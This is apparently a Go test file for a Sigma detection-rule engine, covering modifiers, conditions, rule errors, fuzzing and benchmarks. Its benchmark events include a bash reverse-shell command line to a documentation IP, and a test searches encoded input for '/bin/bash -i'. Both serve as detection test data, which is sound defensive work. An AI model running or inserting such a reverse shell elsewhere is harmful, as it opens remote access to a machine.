package sigma

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf16"

	"pgregory.net/rapid"

	"github.com/joulegate/joulegate/guard"
)

// public are the rules that SigmaHQ publishes.
func public(t testing.TB) string {
	t.Helper()
	dir := os.Getenv("JOULEGATE_TESTDATA")
	if dir == "" {
		t.Skip("JOULEGATE_TESTDATA is not set: the public rules (sigma) are not there to load")
	}
	return filepath.Join(dir, "sigma")
}

func files(t testing.TB, nameText ...string) fstest.MapFS {
	t.Helper()
	m := fstest.MapFS{}
	for i := 0; i < len(nameText); i += 2 {
		m[nameText[i]] = &fstest.MapFile{Data: []byte(nameText[i+1])}
	}
	return m
}

// ruleText is a rule with a detection, indented by two.
func ruleText(detection string) string {
	return "title: t\nlogsource: {category: process_creation, product: linux}\ndetection:\n  " + strings.ReplaceAll(strings.TrimSpace(detection), "\n", "\n  ") + "\n"
}

func load(t testing.TB, detection string) *Matcher {
	t.Helper()
	s, err := Load(files(t, "x.yml", ruleText(detection)))
	if err != nil {
		t.Fatalf("%v\n%s", err, detection)
	}
	return s.Matcher()
}

func TestPublicRulesLoad(t *testing.T) {
	s, err := Load(os.DirFS(public(t)))
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Rules) != 122 || s.Files != 122 || s.Skipped != 0 {
		t.Errorf("%d rules, %d files, %d skipped", len(s.Rules), s.Files, s.Skipped)
	}
	for _, r := range s.Rules {
		if r.ID == "" || r.Title == "" || len(r.Tags) == 0 || r.Level < guard.Info {
			t.Errorf("%+v", r)
		}
	}
}

func TestPublicRulesMatchAsTheSpecificationReads(t *testing.T) { agree(t, os.DirFS(public(t))) }

// TestModifiers says for each what a rule matches and what not. A value that
// stands for an absent field is "".
func TestModifiers(t *testing.T) {
	for _, tt := range []struct {
		field       string // key and value, in YAML, of CommandLine
		match, pass []string
	}{
		{`'AbC'`, []string{"abc", "ABC"}, []string{"abcd", "xabc", ""}},
		{`'a*c'`, []string{"ac", "abbc", "a\nc"}, []string{"acb", "xac"}},
		{`'a?c'`, []string{"abc", "aéc", "a\xffc", "a\nc"}, []string{"ac", "abbc"}},
		{`'a\*c'`, []string{"a*c"}, []string{"abc", `a\c`}},
		{`'a\?c'`, []string{"a?c"}, []string{"abc"}},
		{`'a\\*c'`, []string{`a\c`, `a\bc`}, []string{"a*c"}},
		{`'a\\\*c'`, []string{`a\*c`}, []string{`a\bc`}},
		{`'a\bc'`, []string{`a\bc`}, []string{"abc"}},
		{`'a\\bc'`, []string{`a\bc`}, []string{`a\\bc`}},
		{`'a\'`, []string{`a\`}, []string{"a"}},
		{`'*'`, []string{"x"}, []string{""}},
		{`'?*'`, []string{"x", "é", "xy"}, []string{""}},
		{`''`, []string{""}, []string{"x"}},
		{`null`, []string{""}, []string{"null"}},
		{``, []string{""}, []string{"x"}},
		{`[null, 'x']`, []string{"", "X"}, []string{"y"}},
		{`['a', 'b*']`, []string{"a", "bc"}, []string{"ab"}},
		{`10`, []string{"10"}, []string{"010"}},
		{`0x1F`, []string{"0x1f"}, []string{"31"}},
		{`yes`, []string{"yes"}, []string{"true"}},
		{`'STRAẞE ÉÀ'`, []string{"straße éà"}, []string{"strasse éà"}},
		{`'*K*'`, []string{"k", "K", "\u212a"}, nil},
		{`'*ss*'`, []string{"SS"}, []string{"ſſ"}},
		{"|contains 'b?d'", []string{"abcde", "bxd"}, []string{"bd"}},
		{"|contains ' -p '", []string{"a -P b"}, []string{"a -p"}},
		{"|contains '*a*'", []string{"xay"}, []string{"xy"}},
		{"|contains 'x\\*'", []string{"ax*b"}, []string{"axb"}},
		{"|contains|all ['a', 'b']", []string{"xbya"}, []string{"a", "b", ""}},
		{"|all|contains ['a', 'b']", []string{"xbya"}, []string{"a"}},
		{"|startswith 'ab'", []string{"ABc", "ab"}, []string{"xab", ""}},
		{"|startswith ['ab', 'x*z']", []string{"xyzzz"}, []string{"xy"}},
		{"|endswith '/sh'", []string{"/bin/SH", "/sh"}, []string{"/bin/sh -c", "sh"}},
		{"|endswith|cased '/sh'", []string{"/bin/sh"}, []string{"/bin/SH"}},
		{"|cased 'É?'", []string{"Éx"}, []string{"éx"}},
		{"|contains|cased ['Ab', 'cD']", []string{"xAby", "cD"}, []string{"ab", "cd"}},
		{"|re 'a.c'", []string{"xabcx"}, []string{"ABC", "ac", ""}},
		{"|re|i 'a.c'", []string{"xABCx"}, []string{"ac"}},
		{"|re|i 'sk'", []string{"SK", "ſk", "s\u212a"}, []string{"s k"}},
		{"|re '^a$'", []string{"a"}, []string{"b\na\nb"}},
		{"|re|m '^a$'", []string{"b\na\nb"}, []string{"ab"}},
		{"|re 'a.b'", []string{"a b"}, []string{"a\nb"}},
		{"|re|s 'a.b'", []string{"a\nb"}, []string{"ab"}},
		{"|re|i|m|s '^A.b$'", []string{"x\na\nB\ny"}, []string{"ab"}},
		{"|re '(?:ab|cd){2}'", []string{"abcd"}, []string{"ab cd"}},
		{"|re 'x*'", []string{"y"}, []string{""}},
		{"|re 'ü+'", []string{"aüü"}, []string{"Ü"}},
		{"|re|all ['a', 'b$']", []string{"ab"}, []string{"ba"}},
		{"|cidr '192.0.2.0/24'", []string{"192.0.2.77", "::ffff:192.0.2.1"}, []string{"192.0.3.1", "192.0.2.77 ", "x", ""}},
		{"|cidr ['10.0.0.0/8', '2001:db8::/32']", []string{"10.255.0.1", "2001:DB8::1"}, []string{"11.0.0.1", "2001:db9::1"}},
		{"|exists true", []string{"x"}, []string{""}},
		{"|exists false", []string{""}, []string{"x"}},
		{"|lt 10", []string{"9", "-1", "9.5"}, []string{"10", "x", ""}},
		{"|lte 10", []string{"10"}, []string{"11"}},
		{"|gt 10", []string{"11"}, []string{"10"}},
		{"|gte 10", []string{"10"}, []string{"9"}},
		{"|neq 'a'", []string{"b", ""}, []string{"A"}},
		{"|contains|neq ['a', 'b']", []string{"c"}, []string{"xa", "xb"}},
		{"|fieldref User", []string{"root", "ROOT"}, []string{"roo", ""}},
		{"|windash|contains ' -f '", []string{"x -f y", "x /f y", "x –f y", "x —F y", "x ―f y"}, []string{"x f y", "x +f y"}},
		{"|contains|windash 'a-b -c'", []string{"a-b /c"}, []string{"a/b -c"}},
		{"|windash '--f'", []string{"--f", "-/f"}, []string{"/-f"}},
		{"|base64 'hello'", []string{"aGVsbG8="}, []string{"hello"}},
		{"|base64|contains 'hello'", []string{"echo aGVsbG8= | base64 -d"}, []string{"aGVsbG8"}},
		{"|wide|base64 'hi'", []string{"aABpAA=="}, []string{"aGk="}},
		{"|utf16le|base64 'hi'", []string{"aABpAA=="}, nil},
		{"|utf16be|base64 'hi'", []string{"AGgAaQ=="}, nil},
		{"|utf16|base64 'hi'", []string{"//5oAGkA"}, nil},
	} {
		key, value, _ := strings.Cut(tt.field, " ")
		if !strings.HasPrefix(tt.field, "|") {
			key, value = "", tt.field
		}
		m := load(t, fmt.Sprintf("s:\n  CommandLine%s: %s\ncondition: s", key, value))
		for _, s := range tt.match {
			if len(m.Match(&Event{CommandLine: s, User: "root"})) != 1 {
				t.Errorf("%s does not match %q", tt.field, s)
			}
		}
		for _, s := range tt.pass {
			if len(m.Match(&Event{CommandLine: s, User: "root"})) != 0 {
				t.Errorf("%s matches %q", tt.field, s)
			}
		}
	}
}

// base64offset finds a text wherever it stands within what was encoded, plain
// or as UTF-16.
func TestBase64OffsetFindsTextAnywhere(t *testing.T) {
	plain := load(t, "s:\n  CommandLine|base64offset|contains: '/bin/bash -i'\ncondition: s")
	wide := load(t, "s:\n  CommandLine|wide|base64offset|contains: '/bin/bash -i'\ncondition: s")
	rapid.Check(t, func(t *rapid.T) {
		before, after := rapid.String().Draw(t, "before"), rapid.String().Draw(t, "after")
		text := before + "/bin/bash -i" + after
		enc := base64.StdEncoding.EncodeToString([]byte(text))
		if len(plain.Match(&Event{CommandLine: "echo " + enc})) != 1 {
			t.Fatalf("%q is not found in %s", text, enc)
		}
		var b []byte
		for _, u := range utf16.Encode([]rune(text)) {
			b = append(b, byte(u), byte(u>>8))
		}
		if enc = base64.StdEncoding.EncodeToString(b); len(wide.Match(&Event{CommandLine: enc})) != 1 {
			t.Fatalf("%q is not found in UTF-16 in %s", text, enc)
		}
	})
}

func TestConditions(t *testing.T) {
	searches := "a:\n  CommandLine|contains: a\nb:\n  CommandLine|contains: b\nsel_c:\n  CommandLine|contains: c\nsel_d:\n  CommandLine|contains: d\n_e:\n  CommandLine|contains: e\n"
	for _, tt := range []struct{ condition, match, pass string }{
		{"a", "a ab", "b"},
		{"a and b", "ab", "a b"},
		{"a or b and sel_c", "a bc", "b c"},
		{"(a or b) and sel_c", "ac bc", "a c"},
		{"not a", "b", "a"},
		{"not a and not b", "c", "a b ab"},
		{"not (a or b)", "c", "a b"},
		{"not not a", "a", "b"},
		{"a and not 1 of sel_*", "a ab", "ac ad"},
		{"1 of sel_*", "c d", "a e"},
		{"all of sel_*", "cd", "c d"},
		{"any of sel_*", "c d", "a"},
		{"1 of them", "a b c d", "e"},
		{"all of them", "abcd", "abc abce"},
		{"all of *", "abcde", "abcd"},
		{"1 of _e", "e", "a"},
		{"A AND b", "", ""}, // searches are named exactly
		{"a AND b OR NOT sel_c", "ab x", "c"},
		{"((a))and((b))", "ab", "a"},
		{"[a, b]", "a b", "c"},
	} {
		text := searches + "condition: " + tt.condition
		if tt.match == "" {
			if _, err := Load(files(t, "x.yml", ruleText(text))); err == nil || !strings.Contains(err.Error(), `no search "A"`) {
				t.Errorf("%s: %v", tt.condition, err)
			}
			continue
		}
		m := load(t, text)
		for _, s := range strings.Fields(tt.match) {
			if len(m.Match(&Event{CommandLine: s})) != 1 {
				t.Errorf("%s does not match %q", tt.condition, s)
			}
		}
		for _, s := range strings.Fields(tt.pass) {
			if len(m.Match(&Event{CommandLine: s})) != 0 {
				t.Errorf("%s matches %q", tt.condition, s)
			}
		}
	}
}

// TestSearches checks lists of mappings, keywords and fields that nobody fills
// in.
func TestSearches(t *testing.T) {
	for _, tt := range []struct {
		detection string
		e         Event
		want      bool
	}{
		{"s:\n  - Image: a\n    CommandLine: b\n  - User: c\ncondition: s", Event{Image: "a", CommandLine: "b"}, true},
		{"s:\n  - Image: a\n    CommandLine: b\n  - User: c\ncondition: s", Event{Image: "a", User: "x"}, false},
		{"s:\n  - Image: a\n    CommandLine: b\n  - User: c\ncondition: s", Event{User: "C"}, true},
		{"s: [nmap, 'x*y']\ncondition: s", Event{ParentCommandLine: "sudo NMAP -sS"}, true},
		{"s: [nmap, 'x*y']\ncondition: s", Event{CurrentDirectory: "/x/1/y/"}, true},
		{"s: [nmap, 'x*y']\ncondition: s", Event{Image: "/y/x"}, false},
		{"s: nmap\ncondition: s", Event{Image: "/bin/nmap"}, true},
		{"s:\n  '|all': [a, b]\ncondition: s", Event{Image: "xa", User: "b"}, true},
		{"s:\n  '|all': [a, b]\ncondition: s", Event{Image: "xa"}, false},
		{"s:\n  '|re': ['^roo', 'x{3}']\ncondition: s", Event{User: "root"}, true},
		{"s:\n  OriginalFileName: a\ncondition: s", Event{Image: "a"}, false},
		{"s:\n  OriginalFileName: null\ncondition: s", Event{}, true},
		{"s:\n  OriginalFileName|endswith: a\ncondition: not s", Event{Image: "a"}, true},
		{"s:\n  ParentUser|exists: false\n  Image: a\ncondition: s", Event{Image: "a"}, true},
		{"s:\n  Image|re: a\nt:\n  OriginalFileName: b\ncondition: s or t", Event{Image: "a"}, true},
	} {
		if got := len(load(t, tt.detection).Match(&tt.e)) == 1; got != tt.want {
			t.Errorf("%+v: %t\n%s", tt.e, got, tt.detection)
		}
	}
}

// TestBrokenRulesAreRefused with file and line.
func TestBrokenRulesAreRefused(t *testing.T) {
	for name, tt := range map[string]struct{ text, want string }{
		"yaml":          {"title: t\nlogsource: {category: [\n", "x.yml:"},
		"tabs":          {"title: t\n\tlogsource: x\n", "x.yml:2:"},
		"empty":         {"", "x.yml: there is no rule"},
		"list":          {"- a\n", "x.yml:1:"},
		"logsource":     {"title: t\n", "x.yml:1: there is no logsource"},
		"detection":     {"title: t\nlogsource: {category: process_creation}\n", "there is no detection"},
		"no condition":  {ruleText("s: {Image: a}"), "no condition"},
		"level":         {"level: grave\n" + ruleText("s: {Image: a}\ncondition: s"), "x.yml:1: level"},
		"twice":         {ruleText("s: {Image: a, Image: b}\ncondition: s"), "x.yml:4:"},
		"field":         {ruleText("s:\n  Imag: a\ncondition: s"), `x.yml:5: process_creation has no field "Imag"`},
		"field's case":  {ruleText("s:\n  commandline: a\ncondition: s"), "it is called CommandLine"},
		"modifier":      {ruleText("s:\n  Image|contain: a\ncondition: s"), `x.yml:5: unknown modifier "contain"`},
		"re":            {ruleText("s:\n  Image|re: a\n  CommandLine|re: '(?<!a)b'\ncondition: s"), "x.yml:6:"},
		"re and cased":  {ruleText("s:\n  Image|re|contains: a\ncondition: s"), "exclude each other"},
		"cidr":          {ruleText("s:\n  Image|cidr: 10.0.0.1\ncondition: s"), "is no network"},
		"exists":        {ruleText("s:\n  Image|exists: 1\ncondition: s"), "want true or false"},
		"gt":            {ruleText("s:\n  Image|gt: x\ncondition: s"), "is no number"},
		"wide":          {ruleText("s:\n  Image|wide: x\ncondition: s"), "must be followed by base64"},
		"wild base64":   {ruleText("s:\n  Image|base64: 'x*'\ncondition: s"), "wildcards cannot be encoded"},
		"null contains": {ruleText("s:\n  Image|contains: null\ncondition: s"), "needs a value"},
		"nothing":       {ruleText("s: {}\ncondition: s"), "nothing to look for"},
		"no search":     {ruleText("s: {Image: a}\ncondition: t"), `x.yml:5: condition: there is no search "t"; there are s`},
		"no pattern":    {ruleText("s: {Image: a}\ncondition: 1 of t*"), "no search is called"},
		"all of them":   {ruleText("_s: {Image: a}\ncondition: all of them"), "no search is called"},
		"aggregation":   {ruleText("s: {Image: a}\ncondition: s | count() > 3"), "counting over several events"},
		"open":          {ruleText("s: {Image: a}\ncondition: (s"), "not closed"},
		"closed":        {ruleText("s: {Image: a}\ncondition: s)"), "not expected"},
		"half":          {ruleText("s: {Image: a}\ncondition: s and"), "ends where"},
		"2 of":          {ruleText("s: {Image: a}\ncondition: 2 of s"), "want 1, any or all"},
		"deep":          {ruleText("s: {Image: a}\ncondition: " + strings.Repeat("not ", 40) + "s"), "nested more than"},
		"long":          {ruleText("s: {Image: a}\ncondition: s" + strings.Repeat(" or s", 600)), "words, at most"},
		"timeframe":     {ruleText("s: {Image: a}\ntimeframe: 5m\ncondition: s"), "one event by itself"},
		"correlation":   {"title: t\ncorrelation: {type: event_count}\n", "x.yml:2:"},
		"anchors":       {"title: &a t\n" + ruleText("s: {Image: a}\ncondition: s"), "x.yml:1:"},
		"windash":       {ruleText("s:\n  Image|windash: '" + strings.Repeat("-a ", 9) + "'\ncondition: s"), "variants"},
		"questions":     {ruleText("s:\n  Image|windash: [" + strings.Repeat("'-a -b -c -d',", 9) + "]\ncondition: s"), "more than 4096 questions"},
		"second":        {ruleText("s: {Image: a}\ncondition: s") + "---\ntitle: t\nlogsource: {category: process_creation}\ndetection: {s: {Image: a}, condition: t}\n", "x.yml:9:"},
		"large":         {"title: " + strings.Repeat("a", MaxFile), "more than"},
	} {
		good := ruleText("s: {Image: a}\ncondition: s")
		s, err := Load(files(t, "x.yml", tt.text, "y.yml", good))
		if err == nil || s != nil || !strings.Contains(err.Error(), tt.want) || !strings.HasPrefix(err.Error(), "x.yml:") {
			t.Errorf("%s: %v, want %s", name, err, tt.want)
		}
	}
	for _, tt := range []struct{ name, want string }{
		{"Upper.yml", "a-z"}, {"sp ace.yml", "a-z"}, {"memfd.yml", "name of a rule of the guard itself"}, {strings.Repeat("a", 200) + ".yml", "at most"},
	} {
		if _, err := Load(files(t, tt.name, ruleText("s: {Image: a}\ncondition: s"))); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%.20s: %v", tt.name, err)
		}
	}
	if _, err := Load(files(t, "readme.txt", "x")); err == nil {
		t.Error("a folder without rules loads")
	}
	if _, err := Load(files(t, "a/x.yml", ruleText("s: {Image: a}\ncondition: s"), "b/x.yml", ruleText("s: {Image: a}\ncondition: s"))); err == nil {
		t.Error("two rules of one name load")
	}
}

func TestSeveralRulesOfAFileAndOtherSources(t *testing.T) {
	one := ruleText("s: {Image: a}\ncondition: s")
	s, err := Load(files(t, "x.yml", "---\n"+one+"---\n"+strings.Replace(one, "linux", "windows", 1)+"---\nlevel: informational\n"+one, "y.yaml", one, "z.txt", "?"))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, r := range s.Rules {
		names = append(names, fmt.Sprint(r.Name, " ", r.Level))
	}
	if want := []string{"process.x medium", "process.x.3 info", "process.y medium"}; !slices.Equal(names, want) || s.Skipped != 1 || s.Files != 2 {
		t.Errorf("%v, %d skipped, %d files", names, s.Skipped, s.Files)
	}
	again, err := Load(files(t, "x.yml", "---\n"+one, "y.yaml", one))
	if err != nil || again.Hash == s.Hash {
		t.Error("other files have the same hash")
	}
}

// One matcher gives the same answers whatever it has seen before.
func TestMatcherForgets(t *testing.T) {
	m := load(t, "s:\n  CommandLine|contains: 'ab'\nt:\n  CommandLine|re: '^x'\nu:\n  User|endswith: 'É'\ncondition: s and not t or u")
	events := []Event{{CommandLine: "ab"}, {CommandLine: "xab"}, {}, {CommandLine: "x", User: "é"}, {User: "e"}, {CommandLine: "x"}}
	want := []bool{true, false, false, true, false, false}
	rapid.Check(t, func(t *rapid.T) {
		i := rapid.IntRange(0, len(events)-1).Draw(t, "event")
		if got := len(m.Match(&events[i])) == 1; got != want[i] {
			t.Fatalf("%+v: %t", events[i], got)
		}
	})
	m.event = 1<<32 - 2 // the counter goes round
	for range 4 {
		if len(m.Match(&events[2])) != 0 || len(m.Match(&events[0])) != 1 {
			t.Fatal("wrong when the counter goes round")
		}
	}
}

func TestMatchingAllocatesNothing(t *testing.T) {
	m := load(t, "s:\n  CommandLine|contains|all: [a, b]\n  Image|re: 'x+$'\n  User|startswith: 'RÖ'\n  ParentImage: null\ncondition: s and not 1 of s*")
	e := Event{Image: "/usr/bin/xx", CommandLine: "xx a b", User: "RöT"}
	m.Match(&e)
	if n := testing.AllocsPerRun(100, func() { m.Match(&e) }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

// ordinary are events of different lengths; the last matches something.
var ordinary = []Event{
	{"/usr/bin/dpkg-query", "dpkg-query --show --showformat=${Version} libc6", "/usr/bin/apt-get", "apt-get -qq -y upgrade", "root", "/"},
	{"/usr/bin/grep", "grep -qs ^joulegate: /etc/passwd", "/usr/bin/dash", "/bin/sh -e /var/lib/dpkg/info/joulegate.postinst configure 1.0", "root", "/root"},
	{"/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/lib/systemd/systemd", "/lib/systemd/systemd --system --deserialize=42", "root", "/"},
	{"/usr/bin/tar", "tar --create --gzip --file /var/backups/home.tar.gz --exclude .cache --exclude node_modules --one-file-system /home/pi /etc /var/lib/joulegate /root " + strings.Repeat("/srv/data/a-rather-long-folder-name ", 10), "/usr/bin/dash", "/bin/sh /usr/local/bin/backup", "root", "/home/pi"},
	{"/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "/usr/sbin/nginx", "nginx: worker process", "www-data", "/tmp"},
}

func benchmark(b *testing.B, s *Set) {
	m := s.Matcher()
	for i := range ordinary {
		m.Match(&ordinary[i])
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		m.Match(&ordinary[i%len(ordinary)])
		i++
	}
	b.ReportMetric(float64(len(s.Rules)), "rules")
}

func BenchmarkMatchPublic(b *testing.B) {
	s, err := Load(os.DirFS(public(b)))
	if err != nil {
		b.Fatal(err)
	}
	benchmark(b, s)
}

// FuzzSigma loads any text as a rule, and matches with what loads.
func FuzzSigma(f *testing.F) {
	f.Add([]byte(ruleText("s:\n  CommandLine|contains|all: [a, '*b?']\n  User: null\ncondition: s and not 1 of s*")), "ab", "root")
	f.Add([]byte(ruleText("s: [a, b]\nt:\n  - Image|re|i: 'x+'\n  - '|all': [q, w]\ncondition: [all of them, (s or t)]")), "x", "\xff")
	f.Add([]byte(ruleText("s:\n  CommandLine|windash|base64offset|contains: '-a'\n  User|cidr: '::/0'\n  Image|fieldref: User\ncondition: 1 of *")), "YWI=", "::1")
	f.Fuzz(func(t *testing.T, text []byte, line, user string) {
		s, err := Load(files(t, "x.yml", string(text)))
		if err != nil {
			if !strings.HasPrefix(err.Error(), "x.yml") && !strings.HasPrefix(err.Error(), "there is no rule for") {
				t.Errorf("%v names no file", err)
			}
			return
		}
		m, e := s.Matcher(), Event{Image: "/bin/" + user, CommandLine: line, User: user}
		first := len(m.Match(&e))
		m.Match(&Event{})
		if again := len(m.Match(&e)); first != again {
			t.Errorf("%d matches, then %d", first, again)
		}
	})
}
